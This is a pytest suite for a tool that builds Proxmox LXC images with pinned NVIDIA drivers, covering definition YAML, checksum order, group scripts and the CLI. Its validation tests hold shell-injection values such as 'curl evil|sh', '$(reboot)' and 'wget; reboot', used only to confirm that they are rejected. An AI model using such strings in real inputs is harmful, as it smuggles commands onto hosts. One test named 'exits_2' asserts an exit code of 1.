"""image: distrobuilder definitions pinned to the host's NVIDIA driver version."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from pve_gpu_lxc import ValidationError
from pve_gpu_lxc.cli.image import main
from pve_gpu_lxc.image import (
    BuildToolsMissing,
    NvidiaImage,
    build,
    check_build_tools,
    linuxcontainers_rootfs_url,
)

ROOTFS = "https://images.linuxcontainers.org/images/ubuntu/noble/amd64/default/20250715_07:42/rootfs.tar.xz"
FACTS = Path(__file__).parents[1] / "stacks" / "facts" / "pve.json"


def image(**overrides) -> NvidiaImage:
    return NvidiaImage(**{"nvidia_driver": "575.64.03", "source_url": ROOTFS, **overrides})


def test_definition_has_the_documented_sections_and_reloads():
    text = image().to_yaml()
    doc = yaml.safe_load(text)
    assert list(doc) == ["image", "source", "packages", "files", "actions"]
    assert doc["source"] == {"downloader": "rootfs-http", "url": ROOTFS}
    assert doc["packages"]["manager"] == "apt"
    assert doc["packages"]["sets"] == [{"packages": ["ca-certificates", "wget"], "action": "install"}]
    assert {f["generator"] for f in doc["files"]} == {"dump"}
    assert {a["trigger"] for a in doc["actions"]} == {"post-packages"}
    assert all(a["action"].startswith("#!/bin/sh\n") for a in doc["actions"])
    assert doc == image().definition()


def test_proxmox_resolv_conf_marker_is_dumped():
    files = {f["path"]: f for f in image().definition()["files"]}
    assert files["/etc/.pve-ignore.resolv.conf"] == {
        "generator": "dump", "path": "/etc/.pve-ignore.resolv.conf", "content": "", "mode": "0644",
        "uid": "0", "gid": "0"}


def test_driver_version_reaches_every_place_it_must():
    version = "570.148.08"
    img = image(nvidia_driver=version)
    doc = img.definition()
    assert doc["image"]["variant"] == f"nvidia-{version}"
    assert version in doc["image"]["name"] and version in doc["image"]["description"]
    assert img.template_file_name == f"ubuntu-noble-nvidia-{version}_amd64.tar.xz"
    script = doc["actions"][1]["action"]
    url = f"https://us.download.nvidia.com/XFree86/Linux-x86_64/{version}/NVIDIA-Linux-x86_64-{version}.run"
    assert f"wget -q -O /tmp/nvidia.run '{url}'" in script
    assert "sh /tmp/nvidia.run --no-kernel-modules --no-systemd -s" in script
    assert f"libnvidia-ml.so.{version}" in script
    marker = next(f for f in doc["files"] if f["path"] == "/etc/pve-gpu-lxc/nvidia-driver-version")
    assert marker["content"] == f"{version}\n"
    assert "575.64.03" not in img.to_yaml()  # no stale default anywhere


def test_arm64_uses_nvidias_aarch64_run_file():
    img = image(architecture="arm64")
    assert img.run_file_url.endswith("/Linux-aarch64/575.64.03/NVIDIA-Linux-aarch64-575.64.03.run")


@pytest.mark.parametrize("bad", ["575", "575.64.03'", "575.64.03 && curl evil|sh", "$(reboot)", "575.64.03\n", ""])
def test_bad_versions_are_rejected(bad):
    with pytest.raises(ValidationError, match="not a driver version"):
        image(nvidia_driver=bad)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"source_url": "ftp://x/rootfs.tar.xz"}, "not a rootfs URL"),
        ({"source_url": "https://x/a b.tar.xz"}, "not a rootfs URL"),
        ({"source_url": "file:///tmp/x'.tar.xz"}, "not a rootfs URL"),
        ({"source_url": ROOTFS + "\nwget evil"}, "not a rootfs URL"),
        ({"architecture": "riscv64"}, "no NVIDIA Linux driver"),
        ({"release": "Noble Numbat"}, "release 'Noble Numbat' is not allowed"),
        ({"packages": "wget"}, "packages must be a tuple"),
        ({"packages": ("wget; reboot",)}, "packages must be a tuple"),
        ({"render_gid": 0}, "render_gid must be an integer in 1..65535"),
        ({"render_gid": 44}, "both 44"),
        ({"run_file_sha256": "abc"}, "not a sha256"),
    ],
)
def test_bad_inputs_are_rejected(overrides, message):
    with pytest.raises(ValidationError, match=message):
        image(**overrides)


def test_checksum_is_verified_before_the_run_file_runs():
    digest = "a" * 64
    script = image(run_file_sha256=digest).nvidia_script()
    check = script.index(f"echo '{digest}  /tmp/nvidia.run' | sha256sum -c -")
    assert check < script.index("sh /tmp/nvidia.run")


def test_scripts_are_valid_sh():
    img = image()
    for script in (img.groups_script(), img.nvidia_script()):
        subprocess.run(["sh", "-n"], input=script, text=True, check=True)


def test_local_rootfs_and_linuxcontainers_urls():
    assert image(source_url="file:///var/tmp/rootfs.tar.xz").definition()["source"]["url"] == "file:///var/tmp/rootfs.tar.xz"
    assert linuxcontainers_rootfs_url("ubuntu", "noble", "amd64", "20250715_07:42") == ROOTFS
    with pytest.raises(ValidationError, match="YYYYMMDD_HH:MM"):
        linuxcontainers_rootfs_url("ubuntu", "noble", "amd64", "latest")


# --------------------------------------------------------------------------- the groups action, run for real


@pytest.fixture
def group_env(tmp_path):
    """Stub getent/groupadd/groupmod over a private group file, so the real script runs harmlessly."""
    group = tmp_path / "group"
    log = tmp_path / "log"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    stubs = {
        "getent": f'awk -F: -v k="$2" \'$1 == k || $3 == k {{ print; exit }}\' {group}',
        "groupadd": f'echo "groupadd $*" >> {log}; echo "$4:x:$3:" >> {group}',
        "groupmod": f'echo "groupmod $*" >> {log}; sed -i "s/^$3:x:[0-9]*:/$3:x:$2:/" {group}',
    }
    for name, body in stubs.items():
        (bin_dir / name).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / name).chmod(0o755)

    def run(initial: str, **overrides) -> tuple[subprocess.CompletedProcess, str, str]:
        group.write_text(initial)
        log.write_text("")
        result = subprocess.run(["sh", "-c", image(**overrides).groups_script()], capture_output=True, text=True,
                                env={"PATH": f"{bin_dir}:/usr/bin:/bin"})
        return result, group.read_text(), log.read_text()

    return run


def test_groups_action_adds_missing_render_group(group_env):
    result, group, log = group_env("root:x:0:\nvideo:x:44:\n")
    assert result.returncode == 0, result.stderr
    assert "render:x:993:" in group and log == "groupadd --system --gid 993 render\n"


def test_groups_action_renumbers_an_existing_render_group(group_env):
    result, group, log = group_env("video:x:44:\nrender:x:992:\n")
    assert result.returncode == 0, result.stderr
    assert "render:x:993:" in group and log == "groupmod --gid 993 render\n"


def test_groups_action_refuses_a_gid_owned_by_another_group(group_env):
    result, _, log = group_env("video:x:44:\nrender:x:992:\n_ssh:x:104:\n", render_gid=104)
    assert result.returncode == 1
    assert "GID 104 is taken by group _ssh; choose another render_gid" in result.stderr
    assert log == ""


# --------------------------------------------------------------------------- building


def test_missing_distrobuilder_says_what_to_install_and_what_to_run(tmp_path):
    with pytest.raises(BuildToolsMissing) as err:
        check_build_tools(tmp_path / "def.yaml", tmp_path / "out", which=lambda _: None, euid=lambda: 0)
    message = str(err.value)
    assert "distrobuilder is not installed (not found on PATH)" in message
    assert "apt install distrobuilder" in message and "snap install distrobuilder --classic" in message
    assert f"sudo distrobuilder build-lxc {tmp_path / 'def.yaml'} {tmp_path / 'out'}" in message
    assert "must run as root" not in message


def test_non_root_is_reported_too(tmp_path):
    with pytest.raises(BuildToolsMissing, match="must run as root"):
        check_build_tools(tmp_path / "d.yaml", tmp_path, which=lambda _: "/usr/bin/distrobuilder", euid=lambda: 1000)


def test_build_runs_distrobuilder_and_names_the_rootfs_after_the_driver(tmp_path):
    calls = []

    def fake_run(command, check):
        calls.append(command)
        Path(command[3], "rootfs.tar.xz").write_bytes(b"rootfs")
        Path(command[3], "meta.tar.xz").write_bytes(b"meta")

    target = build(image(), tmp_path, run=fake_run, which=lambda _: "/usr/bin/distrobuilder", euid=lambda: 0)
    definition = tmp_path / "ubuntu-noble-amd64-nvidia-575.64.03.yaml"
    assert calls == [["distrobuilder", "build-lxc", str(definition), str(tmp_path)]]
    assert yaml.safe_load(definition.read_text())["image"]["variant"] == "nvidia-575.64.03"
    assert target == tmp_path / "ubuntu-noble-nvidia-575.64.03_amd64.tar.xz" and target.read_bytes() == b"rootfs"


def test_cli_takes_the_version_from_the_facts(capsys):
    assert main(["definition", "--facts", str(FACTS), "--source-url", ROOTFS]) == 0
    doc = yaml.safe_load(capsys.readouterr().out)
    assert doc["image"]["variant"] == "nvidia-575.64.03"


def test_cli_refuses_a_driver_that_differs_from_the_facts(capsys):
    assert main(["definition", "--facts", str(FACTS), "--driver", "570.148.08", "--source-url", ROOTFS]) == 1
    assert "--driver 570.148.08 differs from the driver recorded in" in capsys.readouterr().err


def test_cli_build_without_distrobuilder_exits_2_with_the_message(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    code = main(["build", "--driver", "575.64.03", "--source-url", ROOTFS, "--out-dir", str(tmp_path / "out")])
    assert code == 1
    err = capsys.readouterr().err
    assert err.startswith("error: cannot build the image on this machine: distrobuilder is not installed")
    assert (tmp_path / "out" / "ubuntu-noble-amd64-nvidia-575.64.03.yaml").exists()  # definition kept for elsewhere
